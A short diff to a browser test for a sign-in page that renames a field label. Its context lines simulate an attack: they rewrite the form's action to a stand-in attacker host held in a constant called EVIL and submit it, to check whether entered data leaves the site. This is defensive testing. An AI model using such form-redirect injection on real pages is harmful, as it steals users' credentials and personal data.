@@ -92,7 +92,7 @@ def test_what_a_page_is_told_to_send_elsewhere_stays(context: BrowserContext) ->
     context.on("request", lambda request: sent.append(request) if request.url.startswith(EVIL) else None)
     page = context.new_page()
     page.goto("/sign-in")
-    page.get_by_label("Mail address").fill("noor@example.org")
+    page.get_by_label("Email address").fill("noor@example.org")
 
     page.evaluate(f"document.querySelector('main form').action = '{EVIL}/'")
     page.evaluate("document.querySelector('main form button').click()")
